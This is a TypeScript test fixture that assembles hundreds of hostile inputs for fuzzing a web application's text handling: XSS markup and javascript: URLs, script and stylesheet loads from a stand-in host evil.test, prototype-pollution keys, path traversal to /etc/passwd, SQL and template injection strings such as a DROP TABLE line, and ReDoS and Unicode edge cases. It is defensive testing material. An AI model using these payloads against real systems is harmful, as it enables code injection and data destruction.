// cspell:disable: none of this is meant to be words.

/** Markup that runs a script where somebody puts text into a page as HTML. Each would set `wasRun`. */
const MARKUP = [
  '<script>wasRun=1</script>',
  '<script src=//evil.test/a.js></script>',
  '<img src=x onerror=wasRun=1>',
  '<svg onload=wasRun=1>',
  '<svg><script>wasRun=1</script></svg>',
  '<svg><animate onbegin=wasRun=1 attributeName=x dur=1s>',
  '<body onload=wasRun=1>',
  '<input autofocus onfocus=wasRun=1>',
  '<details open ontoggle=wasRun=1>',
  '<video><source onerror=wasRun=1></video>',
  '<audio src=x onerror=wasRun=1>',
  '<iframe src="javascript:parent.wasRun=1">',
  '<iframe srcdoc="<script>parent.wasRun=1</script>">',
  '<object data="javascript:wasRun=1">',
  '<embed src="javascript:wasRun=1">',
  '<a href="javascript:wasRun=1">click</a>',
  '<form action="javascript:wasRun=1"><button autofocus>',
  '<math><mtext><img src=x onerror=wasRun=1></mtext></math>',
  '<template><img src=x onerror=wasRun=1></template>',
  '<style>@import "//evil.test/a.css"</style>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//evil.test/a.css>',
  '<base href=//evil.test/>',
  '<meta http-equiv=refresh content="0;url=//evil.test/">',
  '<marquee onstart=wasRun=1>',
  '<div style="position:fixed;inset:0;background:red">',
  '<search-page><img src=x onerror=wasRun=1></search-page>',
  '<noscript><p title="</noscript><img src=x onerror=wasRun=1>">',
  '<!--><img src=x onerror=wasRun=1>-->',
  '<![CDATA[<img src=x onerror=wasRun=1>]]>',
  '</textarea><img src=x onerror=wasRun=1>',
  '</title><script>wasRun=1</script>',
  '</script><script>wasRun=1</script>',
  '<<script>wasRun=1//<</script>',
  '<scr<script>ipt>wasRun=1</scr</script>ipt>',
  '<IMG SRC=x OnErRoR=wasRun=1>',
  '<img/src=x/onerror=wasRun=1>',
  '<img\nsrc=x\nonerror\n=\nwasRun=1>',
];

/** How markup arrives: as it is, and in turn out of an attribute or written so that one more decoding would bring it back. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
];

/** Names every object has: a table that is an object would find something. */
const PROTOTYPES = [
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'valueOf',
  'isPrototypeOf',
].flatMap((name) => [name, `${name} ${name}`, `${name}[polluted]=1`, `{"${name}":{"polluted":1}}`]);

/** What other programs take for an address, code, a key, a path, a number or a pattern. */
const ORDERS = `
javascript:wasRun=1|JaVaScRiPt:wasRun=1|data:text/html,<script>wasRun=1</script>|//evil.test/|https://evil.test/
\\\\evil.test\\|/\\evil.test/|errors/x//evil.test|blob:x|file:///etc/passwd|../../etc/passwd
" onmouseover="wasRun=1|' onfocus='wasRun=1|\`-wasRun=1-\`|\${wasRun=1}|{{wasRun=1}}|#{wasRun=1}
{{constructor.constructor('wasRun=1')()}}|');wasRun=1;//|";wasRun=1;//|eval("wasRun=1")|=cmd!A1
__proto__.no|constructor.yes|errors/__proto__|fixes/constructor|errors/x~constructor
%zz|%E0%A4%A|%u003Cscript%u003E|%253Cscript%253E|&&==??##|-12345|0|1e309|-0|0x10|1,5|Infinity
' OR '1'='1|'; DROP TABLE pages;--|1 UNION SELECT *|q=x&q=y|?q=x#y|#q=x`
  .trim()
  .split(/[|\n]/);

/** Lines that never end: they must not widen a page. */
const WIDE = [
  'a'.repeat(5000),
  'W'.repeat(300),
  ' '.repeat(1000),
  'a,'.repeat(500),
  '9'.repeat(400),
  '\u{1F4A5}'.repeat(40),
];

/** Other directions, other scripts, signs that cannot be seen. */
const SIGNS = [
  'שלום עולם',
  'e\u0301'.repeat(50),
  '１２',
  '٣',
  '\uFF1Cscript\uFF1E',
  'مرحبا بالعالم',
  '‮evil‬ txt.exe',
  '⁦abc⁩',
  '你好世界',
  'こんにちは',
  '안녕하세요',
  'Привет мир',
  'ไทย',
  'हिन्दी',
  '😀',
  '👩‍👩‍👧‍👦',
  '🏳️‍🌈🏳️‍⚧️',
  '🇩🇪🇫🇷',
  '🤖💥🔥',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳',
  'ﷺ',
  '𝕳𝖊𝖑𝖑𝖔',
  'ｆｕｌｌ',
  '\u0000',
  'a\u0000b',
  '\u0000\u0001\u0002',
  '\u200B\u200B',
  '\uFEFF',
  '\uD800',
  '\uDFFF x',
  '\u00AD\u00AD',
  '\u2028\u2029',
  '\u0085',
  '\u{10FFFF}',
  '\r\r\r',
  '\v\f',
  '\u0008\u001B[31m',
];

/** Nothing but punctuation, and words that programs keep for themselves. */
const PUNCTUATION = [
  ...`
. ... … !!! ??? () [] {} "" '' “” «» - -- — − _ ___ / // | || & && &amp; # ## % %00 %s%s%s%n * ** .*
(?: [a- ((((( ))))) ~ @ ^ = + < > <> ; : :: , ¿¡ § © 1/0 NaN undefined null true ../../../etc/passwd
file:///etc/passwd q=x&q=y ?q=x#y #q=x`
    .trim()
    .split(/\s/),
  '\\',
  '\\\\',
  '^$',
  '(a+)+$',
  '$',
  '$$',
  '$&',
  '$1',
  '´`',
  '[object Object]',
];

/** Texts that make a careless pattern try every way to fit. */
const SLOW = [
  'a',
  '-',
  ' ',
  '(',
  '"',
  '0',
  'error ',
  '0x',
  'mb ',
  '1:',
  '%',
  '_a',
  'l1',
  "'",
  'domain ',
  '<',
  '@a',
  '\n',
  '\t',
  '.',
  'é',
].flatMap((piece) => [`${piece.repeat(3000)}!`, `(${piece.repeat(50_000)}`]);

/** Whole books, and books without a blank. */
const LONG = ['lorem ipsum dolor ', 'x', '😀', 'ab-', '<p>', '数据'].map((piece) =>
  piece.repeat(Math.ceil(100_000 / piece.length)),
);

/** At least 200 hostile texts, each once, to be tried on every input. Nobody can answer them: nothing may be claimed for them. */
export const HOSTILE: readonly string[] = [
  ...new Set([
    ...MARKUP,
    ...MARKUP.map((text, at) => DISGUISES[at % DISGUISES.length]?.(text) ?? text),
    ...PROTOTYPES,
    ...ORDERS,
    ...SIGNS,
    ...PUNCTUATION,
    ...WIDE,
  ]),
];

/** Texts of many pages, for what reads with patterns: none may keep a page busy. */
export const HUGE: readonly string[] = [...SLOW, ...LONG];
